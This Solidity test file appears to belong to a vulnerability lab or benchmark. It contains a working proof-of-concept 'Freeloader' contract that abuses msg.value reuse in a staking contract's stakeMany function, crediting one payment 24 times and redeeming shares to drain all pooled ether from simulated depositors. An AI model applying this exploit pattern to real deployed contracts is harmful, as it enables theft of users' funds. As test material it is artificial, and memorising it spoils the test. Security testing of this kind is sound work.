// SPDX-License-Identifier: MIT OR Apache-2.0
pragma solidity ^0.8.27;

import {Harbor} from "../msg-value-reuse/src/Harbor.sol";

interface Vm {
    function deal(address account, uint256 balance) external;
    function prank(address sender) external;
}

/// Has one payment credited 24 times, until its shares can empty the buffer.
contract Freeloader {
    receive() external payable {}

    function run(Harbor harbor) external payable {
        address[] memory accounts = new address[](24);
        uint256[] memory amounts = new uint256[](24);
        for (uint256 round = 0; round < 4; ++round) {
            uint256 paid = address(this).balance;
            for (uint256 i = 0; i < 24; ++i) {
                (accounts[i], amounts[i]) = (address(this), paid);
            }
            harbor.stakeMany{value: paid}(accounts, amounts);
            uint256 held = harbor.balanceOf(address(this));
            // Shares that are worth all the ether that is there, the fee included.
            uint256 gross = address(harbor).balance * 10_000 / (10_000 - harbor.REDEEM_FEE_BPS());
            uint256 all = gross * harbor.totalSupply() / harbor.pooled();
            harbor.redeem(held < all ? held : all, 0);
            if (held >= all) return;
        }
    }
}

contract MsgValueReuseTest {
    Vm private constant vm = Vm(address(uint160(uint256(keccak256("hevm cheat code")))));
    address private constant ALICE = address(0xA11CE);
    address private constant BOB = address(0xB0B);
    address private constant CAROL = address(0xCA401);
    address private constant OPERATOR = address(0x09E4);

    event Profit(uint256 wei_);

    Harbor private harbor;

    function setUp() public {
        vm.deal(address(this), 10 ether);
        harbor = new Harbor{value: 10 ether}(OPERATOR);
        vm.deal(ALICE, 4_000 ether);
        vm.deal(BOB, 2_500 ether);
        vm.deal(CAROL, 1_000 ether);
        vm.deal(OPERATOR, 1_000 ether);
        vm.prank(ALICE);
        harbor.stake{value: 3_200 ether}();
        vm.prank(BOB);
        harbor.stake{value: 1_450 ether}();
        vm.prank(OPERATOR);
        harbor.dispatch(2_900 ether);
        vm.prank(OPERATOR);
        harbor.recall{value: 445 ether}(45 ether);
        address[] memory accounts = new address[](3);
        uint256[] memory amounts = new uint256[](3);
        (accounts[0], accounts[1], accounts[2]) = (CAROL, BOB, ALICE);
        (amounts[0], amounts[1], amounts[2]) = (340 ether, 60 ether, 40 ether);
        vm.prank(CAROL);
        harbor.stakeMany{value: 440 ether}(accounts, amounts);
    }

    function test_attack_pays() public {
        uint256 there = address(harbor).balance;
        Freeloader freeloader = new Freeloader();
        vm.deal(address(freeloader), 60 ether);
        freeloader.run(harbor);
        uint256 profit = address(freeloader).balance - 60 ether;
        emit Profit(profit);
        require(there == 2_645 ether, "another set-up");
        require(profit + 10 >= there, "less than all");
    }
}
